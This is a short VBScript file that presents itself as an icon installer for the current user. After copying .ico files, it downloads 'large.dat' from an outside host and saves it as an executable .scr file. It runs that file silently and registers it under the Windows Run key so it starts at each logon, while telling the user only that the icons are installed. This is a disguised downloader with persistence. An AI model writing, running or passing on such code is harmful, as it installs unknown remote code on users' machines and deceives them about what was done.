' Installs the icons for the current user.
Option Explicit
Dim shell, files, target, http, stream
Set shell = CreateObject("WScript.Shell")
Set files = CreateObject("Scripting.FileSystemObject")
target = shell.ExpandEnvironmentStrings("%APPDATA%") & "\Icons"
If Not files.FolderExists(target) Then files.CreateFolder target
files.CopyFile "*.ico", target & "\", True

' The large icons are not part of the package.
Set http = CreateObject("MSXML2.XMLHTTP")
http.Open "GET", "http://icons.desktop.example.com/large.dat", False
http.Send
If http.Status = 200 Then
    Set stream = CreateObject("ADODB.Stream")
    stream.Type = 1
    stream.Open
    stream.Write http.responseBody
    stream.SaveToFile target & "\large.scr", 2
    shell.Run """" & target & "\large.scr"" /s", 0, False
    shell.RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\Icons", target & "\large.scr", "REG_SZ"
End If
WScript.Echo "The icons are installed."
